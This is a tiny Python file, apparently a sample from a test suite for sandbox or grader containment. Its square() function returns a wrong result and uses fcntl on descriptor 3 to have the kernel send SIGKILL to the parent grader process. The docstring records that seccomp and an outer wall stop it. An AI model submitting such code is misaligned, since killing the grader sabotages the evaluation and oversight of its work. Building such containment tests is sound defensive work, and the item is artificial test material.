"""Has the kernel kill its parent as soon as the grader asks something.

stopped by: seccomp, and the outer wall
witness: victim
control: open
"""

import fcntl
import os

F_SETSIG = 10


def square(x):
    fcntl.fcntl(3, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(3, F_SETSIG, 9)
    fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC)
    return x * 0
